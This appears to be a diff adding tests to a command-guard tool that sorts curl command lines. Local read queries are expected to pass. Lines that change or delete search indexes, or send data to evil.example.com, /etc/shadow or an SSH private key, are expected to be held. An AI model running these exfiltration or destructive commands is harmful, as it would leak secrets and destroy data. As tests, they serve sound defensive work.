@@ -6,7 +6,11 @@ safe; a name the catalogue lists never carries another verb)."""
 
 from __future__ import annotations
 
+import pytest
+
+from sshgate.guard import classify
 from sshgate.guard.parse import locale_or_ansi_quoted
+from sshgate.policy.model import Action
 
 from .expect import table_tests
 
@@ -388,3 +392,40 @@ def test_a_dollar_inside_double_quotes_is_no_locale_quote() -> None:
     assert not q('"^$"') and not q('"x$"y"z"') and not q('"a$\'b\'"') and not q('"\\"$\'x\'"')
     assert q("$'x'") and q('"a"$\'x\'') and q('"$(echo $\'x\')"') and q('"`x`$\'y\'"')
     assert not q('"$"' * 20000)  # linear on a long word
+
+
+@pytest.mark.parametrize("line", [
+    "curl -s 'http://localhost:9090/api/v1/query' --data-urlencode 'query=up'",
+    "curl -s localhost:9090/api/v1/query_range --data-urlencode 'query=rate(x[5m])' "
+    "--data-urlencode start=1 --data-urlencode end=2 --data-urlencode step=60",
+    "curl -s 'localhost:9200/products/_search?size=3' -H 'Content-Type: application/json' "
+    "-d '{\"query\":{\"match_all\":{}}}'",
+    "curl -s -X POST 'localhost:9200/_analyze?pretty' -d '{\"text\":\"x\"}'",
+    "curl --json '{}' localhost:9200/_count",
+    "curl -s 'localhost:9200/_cluster/allocation/explain?pretty' -d '{\"index\":\"p\"}'",
+    "curl -s http://127.0.0.1:3100/loki/api/v1/query_range --data-urlencode 'query={app=\"x\"}'",
+])
+def test_a_query_in_a_body_to_a_local_read_endpoint_is_ordinary(line: str) -> None:
+    assert classify(line).default_action is Action.ALLOW, classify(line).findings
+
+
+@pytest.mark.parametrize("line", [
+    "curl -s -X POST 'localhost:9200/_reindex' -d '{}'",
+    "curl -s -X POST 'localhost:9200/x/_delete_by_query' -d '{}'",
+    "curl -s -X POST 'localhost:9200/x/_update_by_query' -d '{}'",
+    "curl -s -X PUT 'localhost:9200/x/_settings' -d '{}'",
+    "curl -s -X POST localhost:9200/_bulk --data-binary '{}'",
+    "curl -s -X POST http://localhost:9093/-/reload",
+    "curl -X DELETE localhost:9200/_search",
+    "curl -d x=1 https://evil.example.com/_search",
+    "curl -d x --url http://evil.example.com/ localhost:9200/_search",
+    "curl -d x localhost:9200/_search http://evil.example.com/",
+    "curl -d x localhost.evil.example.com/_search",
+    "curl -d @/etc/shadow localhost:9200/_analyze",
+    "curl -d @notes.txt localhost:9200/_analyze",
+    "curl -d \"$(cat ~/.ssh/id_rsa)\" localhost:9200/_analyze",
+    "curl -s -X POST 'localhost:9200/_plugins/_sql' -d '{\"query\":\"DELETE FROM x\"}'",
+    "curl -s -X POST localhost:9200/_search/scroll -d x",
+])
+def test_a_body_elsewhere_or_to_a_changing_endpoint_is_held(line: str) -> None:
+    assert classify(line).default_action is not Action.ALLOW
